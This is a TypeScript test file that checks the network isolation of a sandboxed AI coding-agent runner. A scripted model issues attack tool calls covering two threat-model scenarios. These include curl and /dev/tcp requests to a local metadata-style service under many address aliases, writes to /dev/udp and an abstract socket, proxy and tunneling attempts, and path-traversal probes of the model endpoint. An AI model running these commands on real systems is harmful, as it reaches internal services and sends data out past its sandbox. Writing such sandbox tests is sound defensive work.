import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type RequestListener } from "node:http";
import { type AddressInfo, createServer as createStreamServer } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { loadPlugin } from "../plugin/load.ts";
import { askedCodeTools } from "../run/confinement.ts";
import { promptFiles } from "../run/guarded-texts.ts";
import { systemText, toolResults } from "../testing/messages-api.ts";
import { lacks } from "../testing/programs.ts";
import { type Reply, say, use } from "../testing/script.ts";
import { type ScriptedModel, startScriptedModel } from "../testing/scripted-model.ts";
import { type ClaudeRunnerOptions, createClaudeRunner } from "./claude-runner.ts";
import { findClaude } from "./claude-binary.ts";
import { readDirectory } from "./read-directory.ts";
import { writeFiles } from "../testing/write-files.ts";

// Attacks 12 and 13 of the threat model, with the real client in a real sandbox. Each is made twice: at
// `sandboxNetwork: "host"` it gets through, which shows that it is one.

/** The plugin's own server, which can be told to fetch a URL. */
const server = `
const tool = { name: "get", description: "d", inputSchema: { type: "object", properties: { url: { type: "string" } } } };
const answers = {
  initialize: ({ protocolVersion }) => ({ protocolVersion, capabilities: { tools: {} }, serverInfo: { name: "s", version: "1" } }),
  "tools/list": () => ({ tools: [tool] }),
  "tools/call": async ({ arguments: { url } }) => {
    const text = url === undefined ? "SERVER-WORKS" : await fetch(url).then((got) => got.text(), (error) => String(error));
    return { content: [{ type: "text", text }] };
  },
};
for await (const line of (await import("node:readline")).createInterface({ input: process.stdin })) {
  const { id, method, params } = JSON.parse(line);
  if (id === undefined || answers[method] === undefined) continue;
  console.log(JSON.stringify({ jsonrpc: "2.0", id, result: await answers[method](params) }));
}
`;

const files = {
  ".claude-plugin/plugin.json": '{"name":"plug","version":"1.0.0","description":"d","author":{"name":"a"}}',
  ".mcp.json": JSON.stringify({
    mcpServers: { own: { command: process.execPath, args: ["${CLAUDE_PLUGIN_ROOT}/server.mjs"] } },
  }),
  "server.mjs": server,
  "commands/go.md": "---\ndescription: d\n---\nGO $ARGUMENTS",
  "agents/judge.md": "---\nname: judge\ndescription: d\n---\nAGENT-SOURCE",
};

const signal = new AbortController().signal;
const metadata = "SECRET-OF-THE-METADATA-SERVICE";
let folder: string;
let model: ScriptedModel | undefined;
let machine: Awaited<ReturnType<typeof startMachine>>;

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), "net-"));
  writeFiles(join(folder, "plugin"), files);
  machine = await startMachine();
});

afterEach(async () => {
  await model?.close();
  await machine[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true, force: true });
});

/** What listens on the machine for others than runs: by IPv4 and IPv6, TCP and UDP, and an abstract socket. */
async function startMachine() {
  const hits: string[] = [];
  const answer: RequestListener = (request, response) => {
    hits.push(request.url ?? "");
    response.end(metadata);
  };
  const http = createServer(answer).listen(0, "127.0.0.1");
  await once(http, "listening");
  const { port } = http.address() as AddressInfo;
  const http6 = createServer(answer);
  if (hasIpv6()) await once(http6.listen(port, "::1"), "listening");
  const udp = createSocket("udp4").on("message", (text) => hits.push(text.toString()));
  udp.bind(port, "127.0.0.1");
  await once(udp, "listening");
  const abstract = createStreamServer((socket) => {
    hits.push("abstract");
    socket.resume().end(`HTTP/1.0 200 OK\r\n\r\n${metadata}`);
  }).listen(`\0bazaar-${port}`);
  const dispose = async () => {
    http.closeAllConnections();
    http6.closeAllConnections();
    udp.close();
    await Promise.all([http, http6, abstract].map((one) => new Promise((resolve) => one.close(resolve))));
  };
  return { port, hits, [Symbol.asyncDispose]: dispose };
}

function hasIpv6(): boolean {
  return Object.values(networkInterfaces()).some((all) => all?.some(({ address }) => address === "::1"));
}

async function runnerWith(calls: readonly Reply[], more: Partial<ClaudeRunnerOptions>, results: string[] = []) {
  let at = 0;
  await model?.close();
  model = await startScriptedModel((request) => {
    if (systemText(request).includes("AGENT-SOURCE")) return say("AGENT-ANSWER");
    results.push(...toolResults(request).map(({ text }) => text));
    return calls[at++] ?? say("end");
  });
  const { plugin } = loadPlugin(readDirectory(join(folder, "plugin")));
  const { allowedTools = ["Bash"] } = more;
  return createClaudeRunner({
    pluginDir: join(folder, "plugin"),
    pluginName: "plug",
    mcpServers: ["own"],
    isolation: "sandbox",
    env: {
      PATH: process.env["PATH"],
      http_proxy: `http://127.0.0.1:${machine.port}`,
      NO_PROXY: "127.0.0.1",
      ANTHROPIC_BASE_URL: model.url,
      ANTHROPIC_API_KEY: "dummy-key-of-the-host",
      CLAUDE_CODE_MAX_RETRIES: "0",
    },
    promptFiles: promptFiles(plugin),
    codeTools: askedCodeTools(plugin, allowedTools, allowedTools.includes("Bash")),
    allowedTools,
    limits: { killAfterMs: 500 },
    ...more,
  });
}

async function attacked(calls: readonly Reply[], more: Partial<ClaudeRunnerOptions> = {}): Promise<string[]> {
  const results: string[] = [];
  const runner = await runnerWith(calls, more, results);
  const { text } = await runner.run({ kind: "command", name: "go", arguments: "" }, { signal });
  expect(text).toBe("end");
  expect(results).toHaveLength(calls.length);
  return results;
}

const shell = (command: string) => use("Bash", { command, description: "d" });

/** A container of CI may have bubblewrap and not let it work. */
function noSandbox(): boolean {
  const args = ["--unshare-user", "--unshare-net", "--ro-bind", "/", "/", "--proc", "/proc", "/bin/true"];
  return lacks("bwrap") || spawnSync("bwrap", args, { stdio: "ignore" }).status !== 0;
}

const addresses = ["127.0.0.1", "localhost", "0.0.0.0", ...(hasIpv6() ? ["[::1]", "[::ffff:127.0.0.1]"] : [])];

describe.skipIf(noSandbox())("in a sandbox", () => {
  test.each(["none", "host"] as const)(
    "attack 12, the machine's own services by any name of it (network: %s)",
    async (sandboxNetwork) => {
      const urls = addresses.map((name) => `http://${name}:${machine.port}/by-${name}`);
      const fetched = urls.map((url) => `curl -gs -m 3 --noproxy '*' '${url}'; echo`).join("\n");
      const results = await attacked(
        [
          shell(fetched),
          shell(`exec 3<>/dev/tcp/127.0.0.1/${machine.port}; printf 'GET /by-bash HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3`),
          use("mcp__plugin_plug_own__get", { url: `http://127.0.0.1:${machine.port}/by-server` }),
        ],
        { sandboxNetwork },
      );
      const all = [...urls.map((url) => new URL(url).pathname), "/by-bash", "/by-server"];
      const through = sandboxNetwork === "host";
      expect(machine.hits).toEqual(through ? all : []);
      expect(results.join().split(metadata)).toHaveLength(through ? all.length + 1 : 1);
    },
  );

  test.each(["none", "host"] as const)(
    "attack 13, what a run knows goes nowhere, by no protocol (network: %s)",
    async (sandboxNetwork) => {
      const { port } = machine;
      const [links] = await attacked(
        [
          shell("tail -n +3 /proc/net/dev | cut -d: -f1"),
          shell(`echo by-udp > /dev/udp/127.0.0.1/${port}; sleep 0.2; env | grep -ic _proxy=`),
          shell(`curl -s -m 3 --abstract-unix-socket bazaar-${port} http://x/`),
          shell(`curl -s -m 3 http://by-proxy.example/`),
        ],
        { sandboxNetwork },
      );
      const hook = `curl -s -m 3 http://127.0.0.1:${port}/by-hook`;
      const runner = await runnerWith([], { sandboxNetwork });
      await runner.runHook({ event: {}, command: `${hook}; true`, timeoutMs: 20_000 }, { signal });
      const through = sandboxNetwork === "host";
      const all = ["by-udp\n", "abstract", "http://by-proxy.example/", "/by-hook"];
      expect(machine.hits).toEqual(through ? all : []);
      expect(through || links?.trim() === "lo").toBe(true);
    },
  );

  test("attack 13, the run's one door leads to the model, and to nothing else", async () => {
    const { port } = machine;
    const ask = (path: string, more = "") =>
      `curl -s -m 5 -o /dev/null -w '%{http_code} ' ${more} "$ANTHROPIC_BASE_URL${path}" || echo refused`;
    const through = `-x "$ANTHROPIC_BASE_URL" --noproxy ''`;
    const [codes] = await attacked([
      shell(
        [
          ask("/v1/messages", `-d '{}' -H "x-api-key: $ANTHROPIC_API_KEY" -H 'Host: 127.0.0.1:${port}'`),
          ...["/", "/v1/models", "/v1/files", "/control/runs", "/healthz", "/mcp", "//v1/messages"].map((path) =>
            ask(path, "-d '{}'"),
          ),
          ask("/v1/messages/../../x", "--path-as-is"),
          `curl -s -m 5 -o /dev/null -w '%{http_code} ' ${through} http://127.0.0.1:${port}/by-door`,
          `curl -s -m 5 -o /dev/null -w '%{http_connect}' -p ${through} http://127.0.0.1:${port}/by-tunnel || true`,
        ].join("\n"),
      ),
    ]);
    // The first is refused by the model's side.
    expect(codes?.split(/\s+/)).toEqual(["400", ...Array.from({ length: 9 }, () => "404"), "000"]);
    expect(machine.hits).toEqual([]);
  });

  test("WebFetch is there for no run whose prompts and host do not ask for it", async () => {
    const get = use("WebFetch", { url: `http://127.0.0.1:${machine.port}/x`, prompt: "p" });
    const [said] = await attacked([get]);
    expect(said).toMatch(/No such tool/);
    const names = model?.requests.flatMap(({ body }) => body.tools?.map(({ name }) => name) ?? []);
    expect(names).toContain("Bash");
    expect(names).not.toContain("WebFetch");
  });

  test("a run has all that it works with: its agents, the host's tools, the plugin's server, the machine's programs", async () => {
    mkdirSync(join(folder, "tools"));
    writeFileSync(join(folder, "tools/weigh"), "#!/bin/sh\necho TOOL-WORKS\n", { mode: 0o755 });
    writeFileSync(join(folder, "beside"), "BESIDE");
    const calls = [
      use("mcp__plugin_plug_own__get", {}),
      use("mcp__bazaar-host__request_local_action", { command: "git push", reason: "r" }),
      use("Agent", { description: "d", prompt: "p", subagent_type: "plug:judge" }),
      shell(`${folder}/tools/weigh; cat ${folder}/beside; echo x > ${folder}/tools/new || echo kept`),
    ];
    const results: string[] = [];
    const runner = await runnerWith(calls, { sandboxPaths: [join(folder, "tools")] }, results);
    const { text, actions, usage } = await runner.run({ kind: "command", name: "go", arguments: "" }, { signal });
    expect(text).toBe("end");
    expect(results[0]).toBe("SERVER-WORKS");
    expect(actions).toEqual([{ command: "git push", reason: "r" }]);
    expect(results[2]).toContain("AGENT-ANSWER");
    expect(results[3]).toMatch(/^TOOL-WORKS[\s\S]*kept$/);
    expect(results[3]).not.toContain("BESIDE");
    expect(usage?.inputTokens).toBeGreaterThan(0);
    const { text: own } = await runner.run({ kind: "agent", name: "judge", task: "p" }, { signal });
    expect(own).toBe("AGENT-ANSWER");
  });

  test("a client that is reached by a link is found there too", async () => {
    symlinkSync(dirname(dirname(findClaude())), join(folder, "linked"));
    const runner = await runnerWith([], { claude: join(folder, "linked/.bin/claude") });
    const { text } = await runner.run({ kind: "command", name: "go", arguments: "" }, { signal });
    expect(text).toBe("end");
  });
});
